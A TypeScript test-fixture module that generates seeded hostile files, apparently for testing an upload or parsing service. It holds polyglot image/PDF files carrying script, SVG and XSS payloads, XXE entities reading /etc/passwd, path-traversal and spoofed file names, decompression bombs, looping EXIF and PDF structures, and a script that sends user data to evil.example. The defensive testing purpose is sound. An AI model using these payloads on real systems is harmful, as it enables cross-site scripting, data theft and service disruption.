import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import { archiveOf } from '../../exchange/reading/unpacked.ts';

/** A file that is made to do harm. */
export interface Hostile {
  /** Which maker made it. */
  readonly kind: string;
  readonly name: string;
  readonly content: Buffer;
}

/** The same numbers from 0 to 1 for the same seed (mulberry32). */
export function randomFrom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d_2b_79_f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

type Random = () => number;

const oneOf = <T>(random: Random, all: readonly [T, ...T[]]): T => all[Math.floor(random() * all.length)] ?? all[0];
const noise = (random: Random, length: number): Buffer =>
  Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');

const SCRIPTS = [
  '<script>fetch("/api/user").then(a=>a.text()).then(t=>location="//evil.example/"+t)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
] as const;

function chunk(type: string, content: Buffer): Buffer {
  const typed = Buffer.concat([latin(type), content]);
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(content.length);
  check.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, check]);
}

/** A PNG that says it is so large, whose pixels are these. */
function png(width: number, height: number, pixels: Buffer, more: readonly Buffer[] = []): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const parts = [
    chunk('IHDR', head),
    ...more,
    chunk('IDAT', deflateSync(pixels, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ];
  return Buffer.concat([latin('\x89PNG\r\n\x1a\n'), ...parts]);
}

const dot = (): Buffer => png(1, 1, Buffer.alloc(4));

function pdf(page: string, more = ''): string {
  return `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R ${more}>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R ${page}>>endobj
trailer<</Root 1 0 R>>`;
}

/** EXIF whose directories lead back to themselves, or out of the file. */
function loopingExif(random: Random): Buffer {
  const tiff = Buffer.alloc(64);
  tiff.write('II*\0', 'latin1');
  tiff.writeUInt32LE(8, 4);
  tiff.writeUInt16LE(2, 8);
  for (const at of [10, 22]) {
    tiff.writeUInt16LE(0x88_25, at);
    tiff.writeUInt16LE(4, at + 2);
    tiff.writeUInt32LE(oneOf(random, [1, 0x7f_ff_ff_ff]), at + 4);
    tiff.writeUInt32LE(oneOf(random, [8, 10, 0xff_ff_ff_f0]), at + 8);
  }
  tiff.writeUInt32LE(8, 34);
  return tiff;
}

const jpegWith = (note: Buffer): Buffer => {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(note.length + 2);
  return Buffer.concat([latin('\xff\xd8\xff\xe1'), length, note, latin('\xff\xd9')]);
};

function svg(random: Random): string {
  const inner = oneOf(random, [
    '<script>alert(1)</script>',
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
    '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
    '<image href="file:///etc/passwd"/><use href="data:image/svg+xml,x#y"/>',
    '<set attributeName="onmouseover" to="alert(1)"/>',
  ]);
  const before = oneOf(random, [
    '',
    '\uFEFF',
    '<?xml version="1.0"?>\n',
    `<!--${' '.repeat(5000)}-->`,
    '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  ]);
  return `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">${inner}</svg>`;
}

const NAMES = [
  '../../../../etc/cron.d/evil',
  '..\\..\\windows\\system32\\evil.dll',
  'C:\\Users\\x\\evil.lnk',
  '/dev/null',
  'invoice\u202Efdp.exe',
  '\u2066photo\u2069\u202Egpj.scr',
  'a\r\nSet-Cookie: x=1\r\n\r\n<script>.txt',
  '"; filename="evil.html"; x="',
  'CON',
  '...',
  '.htaccess',
  'a\0b.php\0.png',
  `${'長'.repeat(300)}.html`,
  '%2e%2e%2fevil',
  '＜script＞／..／evil.html',
  'ｅｖｉｌ．html',
  "a'*=UTF-8''evil.html",
  '\u200Bevil\u200D.svg',
  'a\u0301'.repeat(200),
  '&lt;img src=x onerror=alert(1)&gt;<img src=x onerror=alert(1)>.png',
] as const;

/** Makers of hostile files; each draws one. */
const MAKERS: Readonly<Record<string, (random: Random) => Omit<Hostile, 'kind'>>> = {
  gif_and_script: (random) => ({
    name: oneOf(random, ['a.gif', 'a.js', 'a.html']),
    content: latin(
      `GIF89a/*${noise(random, 20).toString('latin1').replaceAll('*', '')}*/=1;alert(document.domain);//${oneOf(random, SCRIPTS)}`,
    ),
  }),
  png_and_page: (random) => ({
    name: oneOf(random, ['a.png', 'a.html', 'a.png.html']),
    content: Buffer.concat([dot(), latin(`<html>${oneOf(random, SCRIPTS)}`)]),
  }),
  jpeg_and_page: (random) => ({ name: 'a.jpg', content: jpegWith(latin(`*/--></title>${oneOf(random, SCRIPTS)}`)) }),
  pdf_and_page: (random) => ({
    name: oneOf(random, ['a.pdf', 'a.html']),
    content: latin(
      `${pdf('/MediaBox[0 0 9 9]', '/OpenAction<</S/JavaScript/JS(app.launchURL("file:///etc/passwd"))>>')}<html>${oneOf(random, SCRIPTS)}`,
    ),
  }),
  archive_and_page: (random) => ({
    name: oneOf(random, ['a.zip', 'a.jar', 'a.docx', 'a.html']),
    content: Buffer.concat([
      latin(oneOf(random, SCRIPTS)),
      archiveOf([{ name: Buffer.from('../../evil'), content: noise(random, 50) }]),
    ]),
  }),
  page: (random) => ({
    name: oneOf(random, ['a.png', 'a.pdf', 'a.txt', 'a.csv', 'a.html', 'a.xhtml', 'a']),
    content: latin(
      oneOf(random, [
        `<!doctype html>${oneOf(random, SCRIPTS)}`,
        `\n\n  ${oneOf(random, SCRIPTS)}`,
        `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${oneOf(random, SCRIPTS)}</html>`,
      ]),
    ),
  }),
  svg_and_script: (random) => ({ name: oneOf(random, ['a.svg', 'a.png', 'a.xml']), content: Buffer.from(svg(random)) }),
  svg_of_wide_signs: (random) => ({
    name: 'a.svg',
    content: Buffer.concat([latin('\xff\xfe'), Buffer.from(svg(random), 'utf16le')]),
  }),
  program: (random) => ({
    name: oneOf(random, ['photo.png', 'offer.pdf', 'a.docx', 'setup.exe', 'a.hta', 'a.lnk']),
    content: Buffer.concat([
      latin(oneOf(random, ['MZ\x90\0', '\x7fELF', '#!/bin/sh\n', '\xca\xfe\xba\xbe'])),
      noise(random, 200),
    ]),
  }),
  cut: (random) => ({
    name: 'a.png',
    content: oneOf(random, [
      dot(),
      jpegWith(latin('Exif\0\0')),
      latin('GIF89a'),
      latin('%PDF-1.7'),
      latin('RIFF\xff\xff\xff\xffWEBPVP8 '),
    ]).subarray(0, 8 + Math.floor(random() * 40)),
  }),
  noise: (random) => ({
    name: oneOf(random, ['a.png', 'a.jpg', 'a.webp', 'a.avif', 'a.tiff', 'a.pdf']),
    content: Buffer.concat([
      latin(
        oneOf(random, [
          '\x89PNG\r\n\x1a\n',
          '\xff\xd8\xff\xe0',
          'RIFF\x10\0\0\0WEBPVP8X',
          '\0\0\0\x20ftypavif',
          'II*\0\x08\0\0\0',
          'MM\0*\0\0\0\x08',
          '%PDF-1.7\n',
          'GIF89a',
        ]),
      ),
      noise(random, 2000),
    ]),
  }),
  wide_png: (random) => ({
    name: 'a.png',
    content: png(
      oneOf(random, [30_000, 0x7f_ff_ff_ff, 65_535]),
      oneOf(random, [30_000, 0x7f_ff_ff_ff]),
      Buffer.alloc(3_000_000),
    ),
  }),
  noted_png: (random) => ({
    name: 'a.png',
    content: png(1, 1, Buffer.alloc(4), [
      chunk(
        'zTXt',
        Buffer.concat([latin('Raw profile type exif\0\0'), deflateSync(Buffer.alloc(20_000_000), { level: 9 })]),
      ),
      chunk('iCCP', Buffer.concat([latin('x\0\0'), deflateSync(Buffer.alloc(10_000_000), { level: 9 })])),
      chunk('eXIf', loopingExif(random)),
    ]),
  }),
  wide_gif: (random) => ({
    name: 'a.gif',
    content: Buffer.concat([
      latin('GIF89a\xff\xff\xff\xff\xf7\0\0'),
      noise(random, 768),
      latin(',\0\0\0\0\xff\xff\xff\xff\0\x08\xff'),
    ]),
  }),
  looping_exif: (random) => ({
    name: 'a.jpg',
    content: jpegWith(Buffer.concat([latin('Exif\0\0'), loopingExif(random)])),
  }),
  looping_tiff: (random) => ({ name: 'a.tiff', content: loopingExif(random) }),
  looping_webp: (random) => ({
    name: 'a.webp',
    content: Buffer.concat([latin('RIFF\x40\0\0\0WEBPEXIF\0\0\0\0EXIF\xf8\xff\xff\xff'), noise(random, 64)]),
  }),
  large_page: (random) => ({
    name: 'a.pdf',
    content: latin(
      pdf(
        oneOf(random, [
          '/MediaBox[0 0 1e9 1e9]',
          '/MediaBox[0 0 0 0]',
          '/MediaBox[0 0 1 1e30]',
          '/MediaBox[9 9 -9 -9]/UserUnit 1e9',
          '/Rotate 1e99',
        ]),
      ),
    ),
  }),
  looping_pdf: (random) => ({
    name: 'a.pdf',
    content: latin(
      oneOf(random, [
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R>>',
        `%PDF-1.7\n1 0 obj${'['.repeat(100_000)}`,
        pdf('/Contents 3 0 R/Resources 3 0 R/MediaBox 3 0 R'),
        `%PDF-1.7\n${'1 0 obj<</Length 99999999999/Filter/FlateDecode>>stream\n'.repeat(200)}`,
      ]),
    ),
  }),
  packed: (random) => ({
    name: oneOf(random, ['a.gz', 'a.svgz', 'a.zip', 'a.odt']),
    content: oneOf(random, [
      gzipSync(Buffer.alloc(30_000_000)),
      archiveOf([{ name: Buffer.from('a'), content: gzipSync(Buffer.alloc(1_000_000)) }]),
    ]),
  }),
  named: (random) => ({ name: oneOf(random, NAMES), content: latin(oneOf(random, SCRIPTS)) }),
};

/** So many hostile files, the same for the same seed, of each maker about as many. */
export function hostileFiles(number: number, seed: number): readonly Hostile[] {
  const random = randomFrom(seed);
  const makers = Object.entries(MAKERS);
  return Array.from({ length: number }, (_, index) => {
    const [kind, make] = makers[index % makers.length] ?? ['', () => ({ name: '', content: Buffer.alloc(0) })];
    const { name, content } = make(random);
    const hasOther = kind !== 'named' && random() < 0.2;
    return { kind, content, name: hasOther ? oneOf(random, NAMES) : name };
  });
}

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';

/** An XLSX file with this sheet, as it is written or packed, and with further parts. */
function book(sheet: Buffer, more: Readonly<Record<string, string>> = {}, isPacked = false): Buffer {
  const parts = {
    'xl/workbook.xml': `<workbook ${MAIN} xmlns:r="${OFFICE}"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${OFFICE}/worksheet" Target="worksheets/a.xml"/></Relationships>`,
    ...more,
  };
  const texts = Object.entries(parts).map(([name, text]) => ({ name: Buffer.from(name), content: Buffer.from(text) }));
  const bytes = archiveOf([
    { name: Buffer.from('xl/worksheets/a.xml'), content: isPacked ? deflateRawSync(sheet, { level: 9 }) : sheet },
    ...texts,
  ]);
  if (!isPacked) return bytes;
  const directory = bytes.readUInt32LE(bytes.length - 6);
  for (const at of [8, directory + 10]) bytes.writeUInt16LE(8, at);
  bytes.writeUInt32LE(sheet.length, directory + 24);
  return bytes;
}

/** XLSX files that are made to do harm. */
export function hostileSheets(): readonly Hostile[] {
  const sheet = (rows: string, before = ''): Buffer =>
    Buffer.from(`${before}<worksheet ${MAIN}><sheetData>${rows}</sheetData></worksheet>`);
  const text = (value: string): string => `<row r="1"><c r="A1" t="inlineStr"><is><t>${value}</t></is></c></row>`;
  const all: Readonly<Record<string, Buffer>> = {
    packed: book(Buffer.concat([sheet(text('name')), Buffer.alloc(300_000_000, ' ')]), {}, true),
    outside: book(sheet(text('&x;'), '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    named_outside: book(sheet(text('name')), { '../../../../tmp/evil.xml': 'x', 'xl/../../evil': 'x' }),
    none: archiveOf([]),
    cut: book(sheet(text('name'))).subarray(0, 200),
    page: Buffer.from(SCRIPTS[0]),
    formula: book(sheet('<row r="1"><c r="A1"><f>HYPERLINK("file:///etc/passwd")</f><v>name</v></c></row>')),
  };
  return Object.entries(all).map(([kind, content]) => ({ kind, name: 'a.xlsx', content }));
}
